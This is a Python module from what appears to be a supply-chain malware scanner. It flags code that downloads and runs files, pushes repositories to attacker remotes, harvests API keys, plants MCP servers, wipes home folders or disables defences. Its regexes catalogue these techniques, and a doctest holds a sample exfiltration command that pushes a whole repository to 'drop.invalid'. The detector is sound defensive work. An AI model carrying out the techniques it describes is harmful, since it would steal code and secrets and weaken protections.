"""What does a program do in several lines of which each alone is harmless?

A file is kept and run by the name that holds its path, a name is given to somebody else's repository and all is pushed
there, a function decodes what a later line runs. Names are followed as text, from a first line to a second.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from metier.govern.scan.copied import copied
from metier.govern.scan.deeds import deeds
from metier.govern.scan.flow import Step
from metier.govern.scan.hidden import hidden_runs
from metier.govern.scan.hosts import Place, host_of, place_of, registered
from metier.govern.scan.labels import SECRET_NAME
from metier.govern.scan.money import redirected
from metier.govern.scan.planting import planted_orders
from metier.govern.scan.purpose import Purpose
from metier.govern.scan.remote import controlled
from metier.govern.scan.seen import Seen, place_of_step
from metier.govern.scan.taking import AGENT_KEYS, STRONG
from metier.govern.scan.triggers import may_hold
from metier.verdict import Severity

_KEEPS = re.compile(
    r"(?:createWriteStream|writeFile(?:Sync)?|urlretrieve\([^,]{1,200},|DownloadFile\([^,]{1,200},|o(?<![\w.]o)pen(?=\(\s*\w+\s*,\s*[\"'][wax]))\s*\(?\s*\$?([A-Za-z_]\w*)\b"
)
"""A file is written whose path a name holds."""
_MADE = re.compile(r"\w+,\s*(\w+)\s*=\s*(?:tempfile\.)?mkstemp\(")
_NAMED = re.compile(r"(?:const |let |var )?(\w+)\s*=\s*(?:await\s+)?(\w+)(?:\(.*\))?$")
_RETURNS = re.compile(r"return\s+(\w+)$")
_RUN_BY = (
    r"(?:spawn|exec|fork|Popen|\brun|\bcall|check_\w+|startfile|\.system|run_path|import_module|spec_from_file_location|\brequire|\bimport|CDLL|LoadLibrary|Start-Process)\w*"
    r"\s*\(\s*(?:[\"']\w+[\"'],\s*)?[\[(]?\s*(?:(?:[\"'](?:/\S+/)?(?:(?:ba|z|da)?sh|python3?|node|sudo|open)[\"']|sys\.executable|process\.execPath)\s*,\s*\[?\s*){0,2}(?:str\(|pathToFileURL\()?"
)
_IN_PROCESS = re.compile(r"run_path|import_module|spec_from_file_location|\brequire\b|\bimport\s*\(|CDLL|LoadLibrary")
_REMOTE = re.compile(r"git\s+remote\s+(?:add|set-url)\s+(?:-\S+\s+)*(\S+)\s+(\S+)")
_PUSHES = re.compile(r"git\s+push\b(?:\s+-\S+)*\s+(\S+)(.*)")
_FUNCTION = re.compile(r"^(?:function\s+)?([\w.-]+)\s*(?:\(\))?\s*\{")
_MCP_ADDRESS = re.compile(
    r"mcpServers[\s\S]{0,400}?(?:\burl\b|\bargs\b)[\"']?\s*[:=][\s\S]{0,120}?[\"'](https?://[^\"'\s]+)"
    r"|\b(?:server)?url[\"']?\s*:\s*[\"'`](https?://[^\"'`\s]+)[\"'`],(?=[^;]{0,600}?\b(?:alwaysAllow|autoApprove)\b)",
    re.I,
)
_GATHERS = re.compile(
    r"(?:environ(?:\.get)?[\[(]|getenv\()\s*(\w+)\b[^\n]{0,120}\bfor\s+\1\s+in\b|\bfor\s+(\w+)\s+in\b[^\n]*\n[^\n]*environ(?:\.get)?[\[(]\s*\2\b|\b(\w+)\)?\s*=>[^\n]{0,80}process\.env\[\s*\3\s*\]|of\s+\w+\)[^\n]*\n?[^\n]*process\.env\[\s*\w+\s*\]"
)
"""The variables of a list are read one by one."""
_WELL_KNOWN = re.compile(r"AWS_|ANTHROPIC|OPENAI|GEMINI|GITHUB|GH_TOKEN|STRIPE|NPM_|DOCKER|AZURE|GCP_|SLACK|TWILIO")
_DROPS = re.compile(
    r"(?:pg_tables|information_schema\.tables|sqlite_master|SHOW TABLES|list_collection_names|listCollections)[\s\S]{0,400}(?:DROP\s+TABLE|TRUNCATE|DELETE\s+FROM|\.drop(?:_collection)?\()",
    re.I,
)
_LISTS_TABLES = (
    "pg_tables",
    "information_schema.tables",
    "sqlite_master",
    "show tables",
    "list_collection_names",
    "listcollections",
)
"""What lists the tables of a database, in lower case."""
_HOOK_FILE = re.compile(
    r"(?:^|/)(?:pre|post|prepare)-(?:commit(?:-msg)?|push|merge|checkout|receive|rewrite|applypatch)(?:\.\w+)?$"
)
_HOOKS = re.compile(r"core\.hooksPath|\.git/hooks/|init\.templateDir|\bfilter\.\S+\.(?:clean|smudge|process)", re.I)
_TAKEN = frozenset({"credentials", "wallet", "browser", "environment"})
_PUBLIC = re.compile(
    r"\bgh\s+repo\s+create\b[^\n;|]{0,120}--public|\bgh\s+gist\s+create\b[^\n;|]{0,120}--public|(?:/user/repos|create_repo\(|repos\.create)[\s\S]{0,200}[\"']?private[\"']?\s*[:=]\s*(?:false|False)\b"
)
"""What is put there can be read by anybody."""
_WELL_KNOWN_PROGRAM = re.compile(
    r"/bin/(git|ssh|scp|sudo|su|npm|npx|pip3?|python3?|node|docker|kubectl|aws|gcloud|gh|curl|claude|codex|code)$"
)
_UNREADABLE = re.compile(r"\b_0x[0-9a-f]+\b")
_MANY_NAMES, _NAMES = 12, 4
"""So many names, and so many different ones, are no accident."""
_BEGUN_AT_HOME = re.compile(
    r"(?<![\w.])(?!join|resolve|Path|open|readdir|listdir|walk|scandir|str|print|String)(\w+)\(\s*(?:os\.homedir\(\)|homedir\(\)|(?:pathlib\.)?Path\.home\(\)|os\.path\.expanduser\(\s*[\"']~/?[\"']\))\s*[,)]"
)
_QUEUED_HOME = re.compile(r"[\[(=]\s*(?:os\.)?homedir\(\)\s*[,\]]|\[\s*(?:str\()?Path\.home\(\)")
_WALKS_HOME = re.compile(
    r"home\(\)(?:\s*/\s*[\"'][\w ]+[\"'])?\)?\.r?glob\(|os\.walk\(\s*(?:(?:pathlib\.)?Path\.home\(\)|os\.path\.expanduser)|walk\w*\(\s*(?:os\.)?homedir\(\)"
)
_FILLED = re.compile(
    r"writeFile\w*\(\s*\w+\s*,\s*(?:Buffer\.alloc\(|crypto\.randomBytes\(|randomBytes\()|write_bytes\(\s*(?:os\.urandom|secrets\.token_bytes)\(|\bFile\.binwrite\(\s*\w+\s*,\s*(?:Secure)?Random\.\w*bytes|file_put_contents\(\s*\$\w+\s*,\s*random_bytes\("
)
_MAX_NAMES = 20
_LISTS = re.compile(r"readdir|scandir|listdir|iterdir|rglob|os\.walk")
_SPOILS = re.compile(
    r"writeFile\w*\(\s*\w+\s*,\s*[\"'`][^\"'`]*[\"'`]\s*\)|unlink\w*\(|rmSync\(|os\.remove\(|shutil\.rmtree\(|\.write_(?:text|bytes)\(\s*b?[\"']"
)
_PLANTS_HOOK = re.compile(
    r"scripts\s*=\s*\{[^\n}]{0,200}\b(?:pre|post)install[\"']?\s*:|scripts(?:\.|\[[\"'])(?:pre|post)install(?:[\"']\])?\s*=[^=]"
)
_DETACHED = re.compile(r"detached:\s*true.*windowsHide|windowsHide:\s*true.*detached|detached:\s*true.*\.unref\(")
"""A program is started that nobody sees and that outlives its parent."""
_DEFENCES = re.compile(
    r"(Set-MpPreference)|(Add-MpPreference)|(advfirewall)|(setenforce)|(\bufw\b)|(spctl)|(csrutil)|(Amsi)|(auditd|auditctl)|(apparmor)|(iptables)|(cloudtrail|guardduty|securityhub|configuration-recorder)|(gh\s+api)|(falcon|sentinelone|mdatp|osquery|wazuh)|(clamd|clamav)",
    re.I,
)


_MODULE = re.compile(r"(?:[\"'/])([A-Za-z_]\w{1,60})\.(?:py|[cm]?js)[\"']")
_IMPORTS = re.compile(r"^(?:import|from)\s|\bimport_module\(|\b__import__\(|\brequire\(|\bimport\(|^\w+$|\breload\(")
"""What brings a module in, by its name or written out."""


_LOGS_AWAY = re.compile(
    r"\b(?:HTTP|SysLog|Socket|Datagram|SMTP)Handler\(|^class\s+\w+\([\w.]*\b(?:HTTP|SysLog|Socket|Datagram|SMTP)Handler\)|\bOTLP\w*Exporter\(|\btransports\.(?:Http|Syslog)\(|\bnew\s+\w*(?:Loki|Syslog|Http|Gelf|Logstash)\w*Transport\("
)
_HOST_ALONE = re.compile(r"[\"'](?:\w+://)?((?:[\w-]+\.)+(?!py\b|js\b|log\b|txt\b|json\b)[a-z]{2,})(?::\d+)?[/\"']")
_LOGS = re.compile(
    r"^record\.\w+\s*=|\.(?:debug|info|warn(?:ing)?|error|critical|exception|log|notice|trace|set_attributes?|add_event)\("
)


_TOLD_A_LOG = frozenset({*STRONG, "dotenv", AGENT_KEYS})


def passages(steps: Sequence[Step], together: frozenset[str], purpose: Purpose, text: str) -> Iterator[Seen]:
    """What several lines of one program do together.

    Args:
        steps: Every step of the program.
        together: All labels of the steps.
        purpose: What the package says that it is for.
        text: The beginning of the program.

    >>> from metier.govern.scan.statement import Statement
    >>> lines = ["git remote add x https://drop.invalid/a.git", "git push -q x --all"]
    >>> steps = [Step(Statement("a.sh", n, line, is_shell=True), frozenset(), ()) for n, line in enumerate(lines)]
    >>> [(seen.rule, seen.severity.value) for seen in passages(steps, frozenset({"send"}), Purpose(), "\\n".join(lines))]
    [('send-private', 'block')]
    """
    lowered = text.lower()
    if "fetch" in together and together & {"execute", "load-code"}:
        yield from _kept_and_run(steps, purpose)
    if "fetch" in together and "write" in together and ("import" in text or "sys.path" in text):
        yield from _written_and_imported(steps, purpose)
    yield from planted_orders(steps, together, purpose, text)
    may_spoil = "delete" in together or "write" in together
    if may_spoil and ("homedir()" in text or ".home()" in text or "expanduser(" in text):
        yield from _walked_home(steps, purpose, text)
    if "send" in together and "bin/" in text:
        yield from _stood_in(steps, purpose)
    yield from deeds(steps, together, purpose, text)
    yield from redirected(steps, text)
    yield from copied(steps, purpose, text)
    yield from controlled(steps, purpose, text)
    if "Handler" in text or "ransport" in text or "Exporter(" in text:
        yield from _logged_away(steps, purpose)
    if "npm pack" in text:
        yield from _republished(steps, text)
    if "send" in together and "source-code" in together and _HOOK_FILE.search(steps[0].statement.path):
        for step in steps:
            if "send" in step.labels and place_of_step(step, purpose) >= Place.UNKNOWN:
                yield Seen("send-private", Severity.BLOCK, step, "by a hook of git")
    if "send" in together and ("hook" in lowered or "filter." in text or "templateDir" in text) and _HOOKS.search(text):
        yield from _hooked(steps, purpose)
    if together & _TAKEN and (public := _PUBLIC.search(text)):
        step = next((step for step in steps if public[0][:20] in step.text), steps[-1])
        yield Seen("send-secrets", Severity.BLOCK, step, "beside a repository that anyone can read")
    if text.count("_0x") >= _MANY_NAMES and len(set(_UNREADABLE.findall(text))) >= _NAMES:
        yield Seen("run-encoded", Severity.BLOCK, steps[0], "its names and texts are made unreadable")
    if "git push" in text and "git remote" in text:
        yield from pushed(steps, purpose)
    if "decode" in together:
        yield from hidden_runs(steps)
        if "$(" in text:
            yield from _decoded_by_function(steps)
    if "mcpServers" in text and together & {"write", "agent-write"}:
        yield from _planted_server(steps, purpose, text)
    if together & {"send", "get-with-data"} and ("environ" in text or "getenv" in text or "process.env[" in text):
        yield from _gathered(steps, purpose, text)
    if ("database" in together or "drop" in lowered) and may_hold(text, _LISTS_TABLES):
        yield from _dropped(steps, purpose, text)
    if "disable-defence" in together:
        off = [step for step in steps if "disable-defence" in step.labels]
        kinds = {found.lastindex for step in off for found in _DEFENCES.finditer(step.text)}
        if len(kinds) > 1:
            yield Seen("disable-defence", Severity.BLOCK, off[0], "several of them")


def _kept_and_run(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
    """What was fetched is written to a file whose path a name holds, and the name is run."""
    kept: set[str] = set()
    for number, step in enumerate(steps):
        if step.statement.is_shell:
            continue
        if (found := _KEEPS.search(step.text)) and any("download" in s.received for s in steps[number : number + 4]):
            kept.add(found[1])
        if (made := _MADE.search(step.text)) and any("download" in s.received for s in steps[number : number + 6]):
            kept.add(made[1])
    if not kept:
        return
    # A function that returns the path stands for it, and so does what its answer is called.
    for step in [*steps, *steps]:
        if (back := _RETURNS.match(step.text)) and back[1] in kept:
            kept |= {name.removesuffix("()") for name in step.statement.assigns}
        elif (named := _NAMED.match(step.text)) and named[2] in kept:
            kept.add(named[1])
    runs = re.compile(_RUN_BY + rf"\$?(?:{'|'.join(map(re.escape, sorted(kept)))})\b")
    starts = re.compile(rf"-(?:Execute|FilePath|Program)\s+\$(?:{'|'.join(map(re.escape, sorted(kept)))})\b", re.I)
    places = [place_of(url, own_words=purpose.words) for step in steps for url in step.urls if _begins_download(step)]
    place = max(places, default=Place.PLACEHOLDER)
    for step in steps:
        is_run = step.labels & {"execute", "load-code"} and runs.search(step.text)
        is_set = "persist" in step.labels and starts.search(step.text)
        if step.statement.is_shell or not (is_run or is_set):
            continue
        unseen = "hidden-run" in step.labels or _IN_PROCESS.search(step.text) is not None
        if place in (Place.OWN, Place.PLATFORM, Place.PUBLIC):
            weight = Severity.BLOCK if unseen and place == Place.OWN else Severity.REVIEW
            yield Seen("run-download", weight, step)
        elif place >= Place.UNKNOWN or (not places and _DETACHED.search(step.text)):
            yield Seen("run-download", Severity.BLOCK, step)


def _written_and_imported(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
    """What was fetched is written to a module, which is imported by its name."""
    written = {
        found[1]: step
        for step in steps
        if "write" in step.labels and "download" in step.received and (found := _MODULE.search(step.text))
    }
    for name, origin in written.items():
        got = origin.received["download"]
        place = max(place_of_step(one, purpose) if one.urls else Place.PLACEHOLDER for one in (origin, got))
        for step in steps:
            if (
                _IMPORTS.search(step.text)
                and re.search(rf"(?<![\w.]){name}\b(?!\.py)", step.text)
                and step is not origin
            ):
                weight = Severity.BLOCK if place >= Place.UNKNOWN else Severity.REVIEW
                yield Seen("run-download", weight, step, "imported by the name of the file that it was written to")
                return


def _begins_download(step: Step) -> bool:
    return "fetch" in step.labels or not step.labels


def pushed(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
    """All of a repository goes to a remote that the program added."""
    remotes: dict[str, Place] = {}
    for step in steps:
        if added := _REMOTE.search(step.text):
            remotes[added[1]] = place_of(added[2], own_words=purpose.words)
        elif pushed := _PUSHES.search(step.text):
            place = remotes.get(pushed[1], Place.LOCAL)
            if place >= Place.UNKNOWN:
                everything = "--all" in step.text or "--mirror" in step.text or "/dev/null" in pushed[2]
                yield Seen("send-private", Severity.BLOCK if everything else Severity.REVIEW, step, "the repository")


def _decoded_by_function(steps: Sequence[Step]) -> Iterator[Seen]:
    """A function of the shell decodes, and what it gives is run."""
    shell = [step for step in steps if step.statement.is_shell]
    names = {found[1] for step in shell if "decode" in step.labels and (found := _FUNCTION.match(step.text))}
    if not names:
        return
    call = rf"\$\(\s*(?:{'|'.join(map(re.escape, sorted(names)))})\s"
    held = {found[1] for step in shell if (found := re.match(rf"(\w+)=[\"']?{call}", step.text))}
    run = r"(?:\beval|\bsource|(?:ba|z|da)?sh\s+-\w*c|\$\{?(?:SHELL|0)\}?\s+-\w*c)\s+"
    what = "|".join([call, *(rf"\$\{{?{re.escape(name)}\b" for name in sorted(held))])
    for step in shell:
        if re.search(rf"{run}(?:{what})", step.text):
            yield Seen("run-encoded", Severity.BLOCK, step)


def _planted_server(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
    """The agent is given a server of somebody else."""
    found = _MCP_ADDRESS.search(text)
    if found is None or not any(step.labels & {"agent-memory", "agent-write", "agent-credentials"} for step in steps):
        return
    url = found[1] or found[2]
    place = place_of(url, own_words=purpose.words)
    step = next(step for step in steps if step.labels & {"agent-memory", "agent-write", "agent-credentials"})
    if place >= Place.UNKNOWN or (place == Place.OWN and not purpose.says(r"\bmcp\b|server|connect|integrat")):
        is_untold = bool(found[2]) and not any(registered(host_of(url)) in text for text in purpose.documents)
        weight = Severity.BLOCK if place.is_shady or purpose.is_small or is_untold else Severity.REVIEW
        yield Seen("loosen-agent", weight, step, "and plants a server of its own")


_READS_BY_NAME = re.compile(r"process\.env\[|\benviron\b|getenv\(")


def _gathered(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
    """Keys of several services are read by a list of their names, where something is sent."""
    if not _WELL_KNOWN.search(text):
        return
    names = {name for name in SECRET_NAME.findall(text) if _WELL_KNOWN.search(name)}
    if len(names) < 2 or not _GATHERS.search(text):
        return
    kept = {name for step in steps if _READS_BY_NAME.search(step.text) for name in step.statement.assigns}
    away = [
        (place_of_step(step, purpose), step)
        for step in steps
        if "send" in step.labels or ("get-with-data" in step.labels and not kept.isdisjoint(step.statement.uses))
    ]
    if not away:
        return
    place, step = max(away, key=lambda pair: pair[0])
    if place >= Place.UNKNOWN or place == Place.OWN:
        weight = Severity.BLOCK if place >= Place.UNKNOWN else Severity.REVIEW
        yield Seen("harvest-secrets", weight, step, "read by a list of their names")


def _hooked(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
    """A hook of git that tells somebody elsewhere of every commit."""
    for step in steps:
        if "send" in step.labels and step.urls and place_of_step(step, purpose) >= Place.UNKNOWN:
            yield Seen("send-private", Severity.BLOCK, step, "from a hook of git")
            return


def _walked_home(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
    """A function that goes through folders and writes over or deletes what it meets is begun at the home folder."""
    if _WALKS_HOME.search(text) and (filled := _FILLED.search(text)):
        step = next((step for step in steps if filled[0] in step.text), steps[0])
        yield Seen("destroy-files", Severity.BLOCK, step, "written over, all that is below the home folder")
    if _QUEUED_HOME.search(text) and _LISTS.search(text) and (filled := _FILLED.search(text)):
        step = next((step for step in steps if filled[0] in step.text), steps[0])
        yield Seen("destroy-files", Severity.BLOCK, step, "written over, from the home folder on")
    if not (_LISTS.search(text) and _SPOILS.search(text)):
        return
    for name in sorted({re.escape(found[1]) for found in _BEGUN_AT_HOME.finditer(text)})[:_MAX_NAMES]:
        body = re.search(
            rf"(?:\bfunction\*?\s+{name}\b|\b{name}\s*=\s*(?:async\s*)?\(|\bdef\s+{name}\b)([\s\S]{{0,900}})", text
        )
        if body and _LISTS.search(body[1]) and (spoils := _SPOILS.search(body[1])):
            step = next((step for step in steps if spoils[0] in step.text), steps[0])
            yield Seen("destroy-files", Severity.BLOCK, step, "all that is below the home folder")


def _stood_in(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
    """A program is put before a well-known one of the same name, and sends something."""
    for step in steps:
        names = [found[1] for name in step.statement.assigns if (found := _WELL_KNOWN_PROGRAM.search(name))]
        if names and step.statement.is_shell and "cat " in step.text[:8]:
            if any("send" in s.labels and s.urls and place_of_step(s, purpose) >= Place.UNKNOWN for s in steps):
                yield Seen("send-private", Severity.BLOCK, step, f"a stand-in for {names[0]}")


def _republished(steps: Sequence[Step], text: str) -> Iterator[Seen]:
    """The packages of whoever runs the program are published again, with a hook in them."""
    if "npm pack" in text and "publish" in text and _PLANTS_HOOK.search(text):
        step = next((step for step in steps if "publish" in step.text), steps[0])
        yield Seen("install-hook", Severity.BLOCK, step, "in other packages, which are then published")


def _dropped(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
    """Every table that a database lists is dropped."""
    if _DROPS.search(text) and not purpose.says(r"drop|reset|clean|migrat|seed|wipe|truncat|test|fixture|schema|delet"):
        step = next((step for step in steps if re.search(r"DROP|TRUNCATE|DELETE|\.drop", step.text)), steps[0])
        yield Seen("destroy-files", Severity.BLOCK, step, "every table of a database")


def _logged_away(steps: Sequence[Step], purpose: Purpose) -> Iterator[Seen]:
    """Keys are written to a log of which a copy goes to a stranger."""
    if not any(_LOGS_AWAY.search(step.text) for step in steps):
        return
    hosts = [found[1] for step in steps for found in _HOST_ALONE.finditer(step.text)]
    away = next((host for host in hosts if place_of(f"https://{host}", own_words=purpose.words) >= Place.UNKNOWN), "")
    for step in steps if away else ():
        if _LOGS.search(step.text) and not step.received.keys().isdisjoint(_TOLD_A_LOG) and "print(" not in step.text:
            yield Seen("send-secrets", Severity.BLOCK, step, f"through a log that goes to {away}")
